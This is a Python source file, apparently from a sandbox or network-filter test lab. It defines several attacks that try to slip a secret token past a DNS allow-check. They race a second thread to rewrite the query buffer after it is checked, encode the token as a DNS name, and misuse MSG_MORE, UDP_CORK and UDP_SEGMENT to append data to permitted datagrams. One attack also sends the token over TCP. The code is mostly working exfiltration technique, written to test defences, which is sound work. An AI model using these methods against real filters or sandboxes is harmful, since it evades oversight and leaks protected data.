"""Datagrams that change after a check, or that are put together from several messages. The effect: `lab.token` arrives."""

import os
import socket
import struct
import threading
import time

from lab import attack

CATEGORY = 'network'

UDP_CORK, UDP_SEGMENT = 1, 103

# Corked datagrams go to the address of the first message.
OTHER = ('127.0.0.1', 9)


def question(name):
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    return struct.pack('!HHHHHH', 1, 0x100, 1, 0, 0, 0) + labels + b'\0\0\1\0\1'


def questions(lab):
    """One for the allowed name, and one of the same length that tells."""
    return question(lab.allowedName), question(f'{lab.token}.co')


def datagrams():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def meanwhile(texts, step, seconds=2):
    """Takes steps with memory in which a thread puts one text after the other."""
    memory = memoryview(bytearray(texts[0]))
    source = os.memfd_create('texts')
    os.write(source, b''.join(texts) * 500)
    end = time.monotonic() + seconds

    def write():
        while time.monotonic() < end:
            os.preadv(source, [memory] * 500 * len(texts), 0)

    thread = threading.Thread(target=write)
    thread.start()
    while time.monotonic() < end:
        try:
            step(memory)
        except OSError:
            pass
    thread.join()


@attack('a query that changes')
def _(lab):
    meanwhile(questions(lab), lambda memory: datagrams().sendto(memory, (lab.nameserver, 53)))


@attack('a query that changes, in parts')
def _(lab):
    meanwhile(questions(lab), lambda memory: datagrams().sendmsg([memory[:12], memory[12:]], [], 0, (lab.nameserver, 53)))


@attack('a query that changes, connected')
def _(lab):
    connection = datagrams()
    connection.connect((lab.nameserver, 53))
    meanwhile(questions(lab), connection.send)


@attack('an answer that changes')
def _(lab):
    good, _ = questions(lab)
    header, record = struct.pack('!HHHHHH', 1, 0x8180, 1, 1, 0, 0), struct.pack('!HHHIH', 0xC00C, 1, 1, 60, 4)
    connection = datagrams()
    connection.settimeout(0.3)

    def step(memory):
        connection.sendto(good, (lab.nameserver, 53))
        connection.recvfrom_into(memory)
        with socket.create_connection((lab.host, lab.ports.tcp)) as other:
            other.sendall(lab.token.encode())

    meanwhile([header + good[12:] + record + socket.inet_aton(lab.host)], step)


def repeatedly(step, seconds=3):
    """Takes a step at intervals, because the datagrams of other attacks fill the buffer of the name server for two seconds."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        step()
        time.sleep(0.05)


@attack('a query, and what is added')
def _(lab):
    def step():
        connection = datagrams()
        connection.sendto(questions(lab)[0], socket.MSG_MORE, (lab.nameserver, 53))
        connection.sendto(lab.token.encode(), OTHER)

    repeatedly(step)


@attack('a query, and what is added, by an option')
def _(lab):
    def step():
        connection = datagrams()
        connection.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 1)
        connection.sendto(questions(lab)[0], (lab.nameserver, 53))
        connection.sendto(lab.token.encode(), OTHER)
        connection.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 0)

    repeatedly(step)


@attack('a query, and another in a segment of its own')
def _(lab):
    good, bad = questions(lab)

    def step():
        connection = datagrams()
        connection.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, len(good))
        connection.sendto(good, socket.MSG_MORE, (lab.nameserver, 53))
        connection.sendto(bad, OTHER)

    repeatedly(step)
